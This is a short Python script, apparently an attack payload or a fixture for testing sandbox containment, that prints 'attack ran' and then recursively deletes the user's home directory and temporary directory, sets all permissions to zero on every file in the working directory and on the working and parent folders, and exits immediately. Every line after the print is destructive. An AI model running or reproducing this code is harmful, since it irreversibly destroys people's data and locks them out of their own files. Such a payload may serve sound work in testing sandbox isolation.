import os
import shutil

print("attack ran", flush=True)
here = os.getcwd()
shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
shutil.rmtree(os.environ["TMPDIR"], ignore_errors=True)
for name in os.listdir("."):
    os.chmod(name, 0)
for folder in (here, os.path.dirname(here)):
    try:
        os.chmod(folder, 0)
    except OSError as error:
        print(error)
os._exit(0)
